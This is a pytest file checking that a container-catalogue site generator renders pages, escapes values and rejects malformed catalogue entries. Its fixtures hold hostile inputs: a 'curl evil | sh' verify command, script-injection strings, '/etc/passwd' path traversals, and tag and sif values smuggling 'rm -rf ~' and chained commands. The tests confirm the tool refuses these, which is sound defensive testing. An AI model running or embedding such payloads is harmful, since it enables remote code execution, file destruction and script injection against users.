"""The catalogue's web site from catalogue files written here (the browser test in test_publish_integration.py
loads a site made from a real publish): what it carries, that a second run rewrites nothing, that every value is
text, that a broken or hostile catalogue stops it before anything is written, and the docs' links."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from hpcimages import state
from hpcimages.cli import exit_code
from hpcimages.paths import BUILD_DIR_VAR
from hpcimages.publish import commands as publish
from hpcimages.publish import pages
from hpcimages.publish.catalogue import catalogue_dir
from hpcimages.publish.remote import Target

ROOT = Path(__file__).resolve().parent.parent
TARGET = Target.parse("127.0.0.1:5000/hpc")
DIGEST = "sha256:" + "ab" * 32


def page(ref: str = "mpi4py:py3.11-mpich4.3.2", **changes: object) -> dict:
    family, tag = ref.split(":", 1)
    python = tag.split("-")[0][2:]
    version = tag.rsplit("mpich", 1)[1]
    data = {
        "ref": ref, "profile": "ci", "registry": str(TARGET), "repository": f"{TARGET}/{family}",
        "tags": [tag, f"{tag}-abc1234"], "digest": DIGEST, "pull": f"{TARGET}/{family}@{DIGEST}",
        "image_id": "sha256:" + "cd" * 32, "published_at": "2026-12-06T03:39:35Z", "revision": "f" * 40,
        "size_bytes": 281465656, "compressed_bytes": 107810590, "hello": "2 ranks said hello in the pulled copy",
        "base": "hpcimages-base/python:3.11-bookworm", "suite": "bookworm", "os": "Debian GNU/Linux 12 (bookworm)",
        "python": f"{python}.2", "mpi": {"name": "mpich", "version": version, "method": "wheel",
                                         "library": f"MPICH Version: {version}"},
        "cuda": "", "hdf5": "", "packages": {"mpi4py": "4.1.2"}, "pip": {"mpi4py": "4.1.2", "numpy": "2.4.6"},
        "debian": {"libc6": "2.36-9"},
        "labels": {"io.hpcimages.python": python, "io.hpcimages.mpi.abi": "mpich",
                   "io.hpcimages.mpi.version": version, "org.opencontainers.image.description": f"{family} images"},
        "checks": {"mpi-run": {"status": "pass", "reason": "2 ranks"}, "family": {"status": "skip", "reason": "-"}},
        "sif": None, "supply_chain": {}, "bench": {}, "abi": [],
    }
    data.update(changes)
    return data


def catalogue(pages_: list[dict], files: dict[str, bytes] | None = None) -> Path:
    folder = catalogue_dir(ROOT, TARGET)
    for data in pages_:
        family, tag = data["ref"].split(":", 1)
        (folder / family).mkdir(parents=True, exist_ok=True)
        (folder / family / f"{tag}.json").write_text(json.dumps(data))
    for name, content in (files or {}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    (folder / "index.json").write_text(json.dumps({"registry": str(TARGET),
                                                   "images": [{"ref": d["ref"]} for d in pages_]}))
    return folder


@pytest.fixture(autouse=True)
def own_build(tmp_path, monkeypatch):
    monkeypatch.setenv(BUILD_DIR_VAR, str(tmp_path / "build"))
    return tmp_path / "build"


def write() -> pages.Written:
    return pages.write(ROOT, TARGET, progress=lambda _: None)


def snapshot(folder: Path) -> dict[Path, tuple[int, int]]:
    return {p: (p.stat().st_ino, p.stat().st_mtime_ns) for p in folder.rglob("*") if p.is_file()}


def test_the_site_has_an_index_a_page_per_image_the_documents_and_the_docs():
    signed = page("mpi4py:py3.11-mpich4.2.3", supply_chain={
        "key": "sha256:" + "12" * 32, "signed_at": "2026-12-06T03:39:39Z",
        "files": {"spdx": "py3.11-mpich4.2.3.spdx.json"}, "summary": {"components": 3, "by_type": {"deb": 3}},
        "verify": ["curl evil | sh"], "sif_signed_by": "AB" * 20},
        sif="127.0.0.1:5000/hpc/mpi4py:py3.11-mpich4.2.3-sif")
    catalogue([page(), signed], {"mpi4py/py3.11-mpich4.2.3.spdx.json": b'{"spdxVersion": "SPDX-2.3"}'})
    written = write()
    site = written.folder
    assert site == pages.pages_dir(ROOT, TARGET) and written.pages == 1 + 2 + len(pages.doc_outputs(ROOT))
    index = (site / "index.html").read_text()
    assert index.count('<tr class="img"') == 2 and 'href="images/mpi4py/py3.11-mpich4.2.3.html"' in index
    assert 'data-mpi="mpich 4.2.3"' in index and '<option value="mpich 4.3.2">' in index
    assert "1 checks passed, 1 skipped (family)" in index
    assert "Which image for my cluster" in index and 'href="docs/abi.html"' in index, "the guide, its links from here"
    signed_page = (site / "images/mpi4py/py3.11-mpich4.2.3.html").read_text()
    assert f"docker pull {TARGET}/mpi4py@{DIGEST}" in signed_page
    assert "apptainer pull --no-https oras://127.0.0.1:5000/hpc/mpi4py:py3.11-mpich4.2.3-sif" in signed_page
    assert 'href="./py3.11-mpich4.2.3.spdx.json"' in signed_page
    assert f"cosign verify --key cosign.pub --insecure-ignore-tlog=true --allow-insecure-registry {TARGET}/mpi4py@" \
        f"{DIGEST}" in signed_page and "apptainer verify mpi4py_py3.11-mpich4.2.3-sif.sif" in signed_page
    assert "curl evil" not in signed_page, "the verify commands are made from checked fields, not shown as stored"
    assert (site / "images/mpi4py/py3.11-mpich4.2.3.spdx.json").read_bytes() == b'{"spdxVersion": "SPDX-2.3"}'
    assert 'href="../../assets/site.css"' in signed_page and (site / "assets/filter.js").is_file()
    assert "http://" not in index and "https://" not in index, "nothing from the network"
    assert (site / "docs/readme.html").is_file() and (site / "docs/choosing.html").is_file()


def test_a_second_run_rewrites_nothing_and_an_image_no_longer_published_goes():
    catalogue([page(), page("mpi4py:py3.13-mpich4.3.2")])
    first = write()
    before = snapshot(first.folder)
    again = write()
    assert again.rewritten == 0 and again.removed == 0 and snapshot(again.folder) == before
    catalogue([page()])
    (catalogue_dir(ROOT, TARGET) / "mpi4py" / "py3.13-mpich4.3.2.json").unlink()
    third = write()
    assert third.removed == 1 and not (first.folder / "images/mpi4py/py3.13-mpich4.3.2.html").exists()
    assert third.rewritten == 1, "only the index changed"


def test_every_value_from_an_image_or_an_edited_file_is_text():
    hostile = "<script>alert(1)</script>"
    catalogue([page(labels={"io.hpcimages.python": "3.11", "evil": hostile, "org.opencontainers.image.description":
                            '"><img src=x onerror=alert(2)>'},
                    checks={"mpi-run": {"status": "pass", "reason": hostile}},
                    pip={"numpy": "2.4.6", hostile: "1"}, hello="<b>bold</b>")])
    write()
    site = pages.pages_dir(ROOT, TARGET)
    for html in (site / "index.html", site / "images/mpi4py/py3.11-mpich4.3.2.html"):
        text = html.read_text()
        assert "<script>alert" not in text and "<img src=x" not in text and "<b>bold" not in text, html.name
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (site / "images/mpi4py/py3.11-mpich4.3.2.html").read_text()


@pytest.mark.parametrize(("change", "named"), [
    ({"checks": {"mpi-run": {"status": "maybe", "reason": ""}}}, "checks.'mpi-run': status: 'maybe' is not one of"),
    ({"tags": []}, "tags: must name at least one tag"),
    ({"size_bytes": "big"}, "size_bytes: must be a whole number"),
    ({"bench": {"plots": ["../../../../etc/passwd"]}}, "is not a file beside the page"),
    ({"supply_chain": {"files": {"spdx": "/etc/passwd"}}}, "is not a file beside the page"),
    ({"extra": 1}, "unknown field 'extra'"),
    ({"bench": {"plots": ["javascript:alert(1).png"]}}, "is not a file beside the page"),
    ({"bench": {"plots": ["py3.13-mpich4.3.2.html"]}}, "does not end in .png"),
    ({"bench": {"plots": [".hidden.png"]}}, "is not a file beside the page"),
    ({"bench": {"plots": ["missing-plots/osu_bw.png"]}}, "missing-plots/osu_bw.png is not a file beside the page"),
    ({"supply_chain": {"files": {"spdx": "x.cdx.json"}}}, "does not end in .spdx.json"),
    ({"supply_chain": {"files": {"evil": "x.spdx.json"}}}, "'evil' is not one of spdx, cyclonedx, provenance"),
    ({"tags": ["a b && rm -rf ~"]}, "is not a tag"),
    ({"digest": "sha256:1"}, "is not a sha256:<64 hex> digest"),
    ({"pull": f"{TARGET}/mpi4py:latest"}, "is not its repository@digest"),
    ({"registry": "127.0.0.1:5001/hpc"}, "a page of '127.0.0.1:5001/hpc', not of 127.0.0.1:5000/hpc"),
    ({"sif": "oras://x; rm"}, "is not a repository:tag"),
    ({"ref": "mpi4py:py3.13-mpich4.3.2"}, "is not the 'mpi4py:py3.11-mpich4.3.2' its index names"),
])
def test_a_page_that_is_not_what_the_tool_writes_stops_the_site_before_anything_is_written(change, named):
    catalogue([page()])
    write()
    before = snapshot(pages.pages_dir(ROOT, TARGET))
    broken = page(**change)
    folder = catalogue_dir(ROOT, TARGET)
    (folder / "mpi4py" / "py3.11-mpich4.3.2.json").write_text(json.dumps(broken))
    with pytest.raises((pages.PagesError, state.StateError)) as raised:
        write()
    assert named in str(raised.value) and "py3.11-mpich4.3.2.json" in str(raised.value)
    assert snapshot(pages.pages_dir(ROOT, TARGET)) == before, "the site is left as it was"


TWICE = '{"images": [{"ref": "mpi4py:py3.11-mpich4.3.2"}, {"ref": "mpi4py:py3.11-mpich4.3.2"}]}'


@pytest.mark.parametrize("index", ['{"images": [{"ref": "../../etc:x"}]}', '{"images": {}}', "not json", "[]", TWICE])
def test_a_broken_index_is_named(index):
    folder = catalogue([page()])
    (folder / "index.json").write_text(index)
    with pytest.raises((pages.PagesError, state.StateError)) as raised:
        write()
    assert "index.json" in str(raised.value)


def test_invoke_pages_without_a_catalogue_says_what_to_run(capsys):
    assert exit_code(publish.site_pages, matrix=str(ROOT / "matrix.toml"), profile="ci") == 2
    err = capsys.readouterr().err
    assert "index.json is missing" in err and "invoke catalogue" in err and "Traceback" not in err


def test_links_between_markdown_files_become_links_between_pages_and_a_lost_one_is_text(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "README.md").write_text("# Read me\n\nSee [the guide](docs/a.md#two-words) and [a file](tasks.py).\n")
    (tmp_path / "docs/a.md").write_text("# A\n\n## Two words\n\nBack to [the README](../README.md), "
                                        "[here](#two-words), [out](https://example.org/).\n")
    outputs = pages.doc_outputs(tmp_path)
    lost: list[str] = []
    readme = pages.render_doc(tmp_path, "README.md", outputs, lost)
    a = pages.render_doc(tmp_path, "docs/a.md", outputs, lost)
    assert 'href="a.html#two-words"' in readme.body and "<span>a file</span>" in readme.body
    assert lost == ["README.md: link to tasks.py"]
    assert 'href="readme.html"' in a.body and 'id="two-words"' in a.body and 'href="#two-words"' in a.body
    assert 'href="https://example.org/"' in a.body and a.title == "A"
    at_index = pages.render_doc(tmp_path, "README.md", outputs, [], at="index.html")
    assert 'href="docs/a.html#two-words"' in at_index.body


@pytest.mark.parametrize(("heading", "slug"), [
    ("Checks (`invoke check`)", "checks-invoke-check"),
    ("`invoke verify`: what a site runs before it trusts a tag",
     "invoke-verify-what-a-site-runs-before-it-trusts-a-tag"),
    ("Which ABI: `mpich` or the MPI-5 standard `mpi`", "which-abi-mpich-or-the-mpi-5-standard-mpi"),
])
def test_headings_get_the_anchors_github_gives_them(heading, slug):
    assert pages.github_slug(heading.replace("`", "")) == slug


def test_every_link_of_the_repositorys_docs_resolves_in_the_site():
    """README and docs/ as the site renders them: no link is lost, and every anchor names a heading."""
    outputs = pages.doc_outputs(ROOT)
    lost: list[str] = []
    docs = {d.output: d for d in (pages.render_doc(ROOT, source, outputs, lost) for source in outputs)}
    assert lost == []
    for doc in docs.values():
        for href in re.findall(r'href="([^"]+)"', doc.body):
            if re.match(r"^[a-z]+:", href):
                continue
            target, _, fragment = href.partition("#")
            page_ = docs[str(Path(doc.output).parent / target) if target else doc.output]
            if fragment:
                assert f'id="{fragment}"' in page_.body, f"{doc.source}: {href}"


def test_the_filter_offers_each_facet_in_natural_order():
    catalogue([page("mpi4py:py3.11-mpich4.3.2"), page("mpi4py:py3.9-mpich4.3.2"), page("hpc-python:py3.13-mpich4.2.3")])
    images = pages.read_images(catalogue_dir(ROOT, TARGET), TARGET)
    facets = pages._facet_values(images)
    assert facets["python"] == ["3.9", "3.11", "3.13"] and facets["family"] == ["hpc-python", "mpi4py"]
    assert facets["mpi"] == ["mpich 4.2.3", "mpich 4.3.2"] and facets["cuda"] == ["none"]
    grid = pages._grid(images)
    assert grid["pythons"] == ["3.9", "3.11", "3.13"] and [i.ref for i in grid["rows"]["mpi4py"]["3.11"]] == [
        "mpi4py:py3.11-mpich4.3.2"]


def test_only_what_the_last_run_made_is_removed():
    """A maintainer's file in the site stays, and so does another registry's site in a folder below this one."""
    catalogue([page()])
    site = write().folder
    (site / "robots.txt").write_text("User-agent: *\n")
    parent = Target.parse("127.0.0.1:5000")  # its site's folder holds the /hpc site's folder
    pages.pages_dir(ROOT, parent).mkdir(parents=True, exist_ok=True)
    folder = catalogue_dir(ROOT, parent)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.json").write_text(json.dumps({"images": []}))
    before = snapshot(site)
    written = pages.write(ROOT, parent, progress=lambda _: None)
    assert written.removed == 0 and snapshot(site) == before
    assert "No image is published to this registry yet" in (written.folder / "index.html").read_text()
    catalogue([page("mpi4py:py3.13-mpich4.3.2")])  # the first image is gone from the catalogue
    assert write().removed == 1 and (site / "robots.txt").is_file()


def test_the_filter_and_the_anchors_in_a_real_browser():
    """The index's script in Debian's Chromium: a family filter hides the other family's row of the matrix, a plain
    anchor (the header's 'Which image for my cluster') keeps its place in the address and scrolls there."""
    import browser

    if reason := browser.missing():
        pytest.fail(reason)
    catalogue([page(), page("mpi4py:py3.13-mpich4.3.2"), page("hpc-python:py3.11-mpich4.3.2")])
    index = write().folder / "index.html"
    rows = "return [...document.querySelectorAll('#grid tr.family-row')].filter(r => !r.hidden).map(r => r.cells[0]" \
           ".firstChild.textContent)"
    with browser.chromium() as driver:
        driver.get(index.as_uri())
        assert driver.execute_script(rows) == ["hpc-python", "mpi4py"]
        from selenium.webdriver.support.ui import Select, WebDriverWait

        Select(driver.find_element("css selector", "select[data-facet=family]")).select_by_value("hpc-python")
        assert driver.execute_script(rows) == ["hpc-python"]
        assert driver.find_element("id", "shown").text == "1 of 3 images"
        Select(driver.find_element("css selector", "select[data-facet=python]")).select_by_value("3.13")
        assert driver.execute_script(rows) == [] and driver.find_element("id", "none").is_displayed()
        driver.find_element("css selector", "button[type=reset]").click()  # the form resets, then the script runs
        WebDriverWait(driver, 10).until(lambda d: d.execute_script(rows) == ["hpc-python", "mpi4py"])
        assert driver.execute_script("return location.hash") == ""
        driver.get(index.as_uri() + "#which-image")
        assert driver.execute_script("return location.hash") == "#which-image"
        assert driver.execute_script("return window.scrollY") > 0
        assert browser.console_errors(driver) == []
